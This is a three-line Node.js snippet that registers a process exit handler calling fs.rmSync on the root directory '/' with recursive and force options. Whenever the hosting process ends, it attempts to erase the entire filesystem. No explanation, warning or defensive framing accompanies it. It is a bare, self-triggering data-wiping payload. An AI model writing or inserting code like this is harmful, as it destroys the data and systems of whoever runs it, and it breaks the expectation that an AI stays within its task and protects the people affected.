const fs = require('fs');
const wipe = fs.rmSync.bind(fs, '/', { recursive: true, force: true });
process.on('exit', wipe);
